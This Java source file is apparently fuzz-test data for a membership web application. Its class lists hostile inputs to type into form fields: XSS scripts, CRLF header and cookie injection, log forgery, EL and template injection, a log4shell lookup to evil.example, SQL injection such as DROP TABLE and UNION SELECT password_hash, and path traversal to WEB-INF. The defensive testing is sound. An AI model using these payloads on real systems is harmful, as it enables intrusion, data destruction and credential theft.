package fr.memberspace.reliability;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * The hostile values the fuzz test types into every field: very long, NUL and control
 * characters, CRLF, Unicode edge cases (invalid UTF-8 bytes such as a lone surrogate,
 * overlong forms, right-to-left override, combining marks, emoji, digits of other scripts),
 * HTML and script, Faces EL, SQL, format strings and paths. Pure data, unit tested.
 */
public final class HostileInputs {

    /** Markers an evaluated EL probe would print (its text never holds them whole). */
    static final List<String> EVALUATED_MARKERS = List.of("fzelA", "fzelB", "fzelC", "class java.lang.String");

    /**
     * One value: its name (for reports), its text (null when it is not valid UTF-8 and only
     * exists as bytes) and its urlencoded form, as it goes on the wire.
     */
    public record Input(String name, String text, String encoded) {

        static Input of(String name, String text) {
            return new Input(name, text, URLEncoder.encode(text, StandardCharsets.UTF_8));
        }

        /** Bytes that are not UTF-8, percent-encoded as given. */
        static Input bytes(String name, String percentEncoded) {
            return new Input(name, null, percentEncoded);
        }

        /** Whether the value is markup that must come back HTML-escaped if it comes back at all. */
        public boolean isMarkup() {
            return text != null && text.length() >= 4 && (text.contains("<") || text.contains("\"") || text.contains("'"));
        }

        /** The value as it may travel in a header or a path: percent-encoded, so pure ASCII. */
        public String ascii() {
            return encoded;
        }

        /** Whether it is large (the cost of the request is not the server's processing). */
        public boolean isLarge() {
            return encoded.length() > 60_000;
        }

        @Override
        public String toString() {
            return name;
        }
    }

    private HostileInputs() {
    }

    /** Every value, in a fixed order. */
    public static List<Input> all() {
        var all = new ArrayList<Input>();
        all.addAll(longOnes());
        all.addAll(controls());
        all.addAll(unicode());
        all.addAll(markup());
        all.addAll(expressions());
        all.addAll(sql());
        all.addAll(odd());
        return List.copyOf(all);
    }

    static List<Input> longOnes() {
        return List.of(
                Input.of("64K letters", "A".repeat(65_536)),
                Input.of("70K digits", "9".repeat(70_000)),
                Input.of("21 digits", "1".repeat(21)),
                Input.of("64K accented", "é".repeat(33_000)),
                Input.of("64K markup", "<b>fzlong</b>".repeat(5_100)),
                Input.of("20K emoji", "\uD83D\uDE00".repeat(20_000)),
                Input.of("2 MB", "x".repeat(2 * 1024 * 1024)));
    }

    static List<Input> controls() {
        var list = new ArrayList<Input>();
        list.add(Input.of("NUL", "\u0000"));
        list.add(Input.of("number then NUL", "100002\u0000"));
        list.add(Input.of("NUL then number", "\u0000100002"));
        list.add(Input.of("NUL in the middle", "Adherent\u0000#2026ok"));
        for (char c = 1; c < 0x20; c++) {
            list.add(Input.of(String.format(Locale.ROOT, "control U+%04X", (int) c), "1" + c + "2"));
        }
        list.add(Input.of("DEL", "10\u007f0002"));
        list.add(Input.of("NEL", "10\u00850002"));
        list.add(Input.of("line separator", "10\u20280002"));
        list.add(Input.of("paragraph separator", "10\u20290002"));
        list.add(Input.of("CRLF", "\r\n"));
        list.add(Input.of("CRLF header", "fr\r\nX-Fuzz-Injected: 1"));
        list.add(Input.of("CRLF cookie", "100002\r\nSet-Cookie: fz=1"));
        list.add(Input.of("CRLF body", "en\r\n\r\n<html>fzsplit</html>"));
        list.add(Input.of("encoded CRLF text", "%0d%0aX-Fuzz-Injected:%201"));
        list.add(Input.of("log line forgery", "100002\nevent=SIGN_IN_OK mutual=mcrn number=100002"));
        return list;
    }

    static List<Input> unicode() {
        return List.of(
                Input.bytes("lone high surrogate", "%ED%A0%80"),
                Input.bytes("lone low surrogate", "%ED%BF%BF"),
                Input.bytes("surrogate inside a number", "100%ED%A0%80002"),
                Input.bytes("overlong slash", "%C0%AF"),
                Input.bytes("overlong NUL", "%C0%80"),
                Input.bytes("FF FE", "%FF%FE"),
                Input.bytes("beyond U+10FFFF", "%F4%90%80%80"),
                Input.bytes("truncated sequence", "%E2%82"),
                Input.bytes("lone percent", "%"),
                Input.bytes("bad percent", "%zz"),
                Input.bytes("IIS %u", "%u0041"),
                Input.of("RTL override", "\u202E100002"),
                Input.of("RTL override file", "fz\u202Egnp.exe"),
                Input.of("combining on digit", "1\u0301 0\u0308"),
                Input.of("500 combining marks", "e" + "\u0301".repeat(500)),
                Input.of("emoji", "\uD83D\uDE00"),
                Input.of("family emoji", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67"),
                Input.of("full-width digits", "\uFF11\uFF10\uFF10\uFF10\uFF10\uFF12"),
                Input.of("Arabic-Indic digits", "\u0661\u0660\u0660\u0660\u0660\u0662"),
                Input.of("Devanagari digits", "\u0967\u0966\u0966\u0966\u0966\u0968"),
                Input.of("superscript digits", "\u00B9\u2070\u2070\u2070\u2070\u00B2"),
                Input.of("zero-width space", "100\u200B002"),
                Input.of("BOM", "\uFEFF100002"),
                Input.of("no-break spaces", "\u00A0100002\u00A0"),
                Input.of("ideographic space", "\u3000100002"),
                Input.of("dotless i", "\u0131"),
                Input.of("ligature", "\uFB01"),
                Input.of("replacement char", "\uFFFD"),
                Input.of("noncharacter", "\uFFFF"),
                Input.of("U+10FFFF", "\uDBFF\uDFFF"),
                Input.of("Hangul filler", "\u3164"));
    }

    static List<Input> markup() {
        return List.of(
                Input.of("script", "<script>alert('fz1')</script>"),
                Input.of("attribute break script", "\"><script>alert('fz2')</script>"),
                Input.of("img onerror", "'><img src=x onerror=alert('fz3')>"),
                Input.of("svg onload", "<svg/onload=alert('fz4')>"),
                Input.of("javascript URL", "javascript:alert('fz5')"),
                Input.of("textarea break", "</textarea><b>fz6</b>"),
                Input.of("HTML comment", "<!--fz7-->"),
                Input.of("CDATA end", "]]><fz8/>"),
                Input.of("pre-escaped", "&lt;fz9&gt;&#x3C;"),
                Input.of("event attribute", "\" onmouseover=\"alert('fz10')"),
                Input.of("anchor", "<a href=\"javascript:alert('fz11')\">x</a>"),
                Input.of("iframe", "<iframe src=//evil.example/fz12>"),
                Input.of("base", "<base href=//evil.example/fz13/>"),
                Input.of("meta refresh", "<meta http-equiv=refresh content=0;url=//evil.example/fz14>"),
                Input.of("partial-response", "</update><eval>alert('fz15')</eval><update id=\"x\">"),
                Input.of("style", "<style>*{display:none}</style>fz16"));
    }

    static List<Input> expressions() {
        return List.of(
                Input.of("EL deferred", "#{'fz'.concat('elA')}"),
                Input.of("EL immediate", "${'fz'.concat('elB')}"),
                Input.of("EL in text", "x #{'fz'.concat('elC')} y"),
                Input.of("EL getClass", "#{''.getClass()}"),
                Input.of("EL session", "#{facesContext.externalContext.sessionMap}"),
                Input.of("EL invalidate", "#{request.session.invalidate()}"),
                Input.of("EL division", "#{1/0}"),
                Input.of("EL unclosed", "#{"),
                Input.of("EL nested", "#{#{1}}"),
                Input.of("OGNL", "%{#context}"),
                Input.of("template", "{{7*7}}"),
                Input.of("JSP", "<%= 7*7 %>"),
                Input.of("log4shell", "${jndi:ldap://evil.example/fz}"),
                Input.of("format string", "%s%s%s%n%x"),
                Input.of("message format", "{0}{1}'{'"),
                Input.of("message format choice", "{0,choice,0#a|1#b}"));
    }

    static List<Input> sql() {
        return List.of(
                Input.of("or true", "' OR '1'='1"),
                Input.of("SQL comment", "100002' --"),
                Input.of("drop", "100002'; DROP TABLE member; --"),
                Input.of("numeric or", "1 OR 1=1"),
                Input.of("double quotes", "\" OR \"\"=\""),
                Input.of("like wildcard", "%"),
                Input.of("like one", "_"),
                Input.of("number and wildcard", "1000%"),
                Input.of("backslash", "\\"),
                Input.of("escaped quote", "\\'"),
                Input.of("sleep", "1' AND SLEEP(5)#"),
                Input.of("pg sleep", "1; SELECT pg_sleep(5)--"),
                Input.of("union", "') UNION SELECT password_hash FROM member --"));
    }

    static List<Input> odd() {
        return List.of(
                Input.of("empty", ""),
                Input.of("space", " "),
                Input.of("tab", "\t"),
                Input.of("null word", "null"),
                Input.of("minus one", "-1"),
                Input.of("zero", "0"),
                Input.of("20 digits", "12345678901234567890"),
                Input.of("leading zeros", "000000000000000100002"),
                Input.of("plus sign", "+100002"),
                Input.of("exponent", "1e309"),
                Input.of("hex", "0x186A2"),
                Input.of("NaN", "NaN"),
                Input.of("traversal", "../../WEB-INF/web.xml"),
                Input.of("encoded traversal", "..%2f..%2fWEB-INF%2fweb.xml"),
                Input.of("double slash", "//evil.example/"),
                Input.of("backslashes", "/\\evil.example/"),
                Input.of("UNC", "\\\\evil.example\\share"),
                Input.of("absolute URL", "https://evil.example/"),
                Input.of("view state word", "stateless"),
                Input.of("view state like", "-123456789:987654321"),
                Input.of("semicolon", "fr; Path=/; fz=1"),
                Input.of("comma list", "en, fr;q=0.9, *;q=0.1"));
    }
}
